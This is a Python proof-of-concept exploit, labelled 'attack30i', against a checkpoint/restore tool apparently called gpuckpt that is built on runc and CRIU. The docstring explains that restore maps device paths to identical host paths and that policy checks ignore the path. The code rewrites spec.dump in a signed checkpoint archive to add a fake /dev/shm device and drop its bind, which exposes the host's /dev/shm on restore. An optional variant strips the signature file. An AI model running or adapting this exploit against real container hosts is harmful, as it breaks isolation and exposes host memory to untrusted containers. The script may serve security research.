"""attack30i: runc's restore hands CRIU, for every device of the spec, an external mount keyed by the device's path
whose source is THAT SAME PATH ON THE HOST (runc libcontainer Restore: `for _, node := range c.config.Devices
{ m := &configs.Mount{Destination: node.Path, Source: node.Path}; c.addCriuRestoreMount(req, m) }`); gpuckpt
judges a spec's devices by type/major/minor only (policy/devices.py node_refusal), never by path. So a spec device
{path: /dev/shm, c 1:3} (null: allowed) makes the key /dev/shm map to the host's /dev/shm; spec.dump's own /dev/shm
bind is dropped (dropping a bind widens nothing) so the image's external /dev/shm mount gets the host's.
SIGNED export (signature kept, checkpoint/ untouched): only spec.dump changes.
usage: devpath.py SRC OUT [PATH]"""
import io, json, os, sys, tarfile
import zstandard

src, out = sys.argv[1:3]
path = sys.argv[3] if len(sys.argv) > 3 else "/dev/shm"
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if os.environ.get("NOSIG") and m.name == "checkpoint/gpuckpt-dump.sig":
            continue  # attack30i NOSIG=1: the unsigned variant (restore:any / gpuckpt import under archive:)
        if m.name == "spec.dump":
            spec = json.loads(d)
            spec["mounts"] = [mount for mount in spec["mounts"] if mount["destination"] != path]
            spec["linux"]["devices"] = (spec["linux"].get("devices") or []) + [
                {"path": path, "type": "c", "major": 1, "minor": 3, "fileMode": 438, "uid": 0, "gid": 0}]
            d = json.dumps(spec).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
print("device path", path)
